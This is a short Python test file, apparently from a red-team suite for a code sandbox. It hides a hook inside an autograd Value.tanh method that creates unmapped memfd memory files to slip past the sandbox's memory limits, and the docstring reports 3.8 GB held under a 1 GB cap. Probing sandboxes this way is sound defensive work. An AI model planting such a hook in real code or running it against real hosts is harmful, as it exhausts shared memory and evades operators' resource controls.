# ruff: noqa
"""Memory that no limit counts: memory files (memfd_create) that are never mapped, each under
RLIMIT_FSIZE. Neither the address-space limit nor any process's resident memory sees them: the
red team's version held 3.8 GB of the host's memory under memory_mb = 1024. Here tanh makes 40
files of 15 MB (600 MB) if it can, and prints what it made."""

import os as _os

_tanh = Value.tanh
_held = []


def _tanh_with_memory_files(self):
    if not _held:
        try:
            for i in range(40):
                fd = _os.memfd_create(f"answers{i}")
                _os.write(fd, bytes(15 * 1024 * 1024))
                _held.append(fd)
            print(f"MADE {len(_held)} memory files", flush=True)
        except OSError as exc:
            print(f"refused memfd_create after {len(_held)} files: {exc.strerror}", flush=True)
            _held.append(None)
    return _tanh(self)


if ATTACK:
    Value.tanh = _tanh_with_memory_files
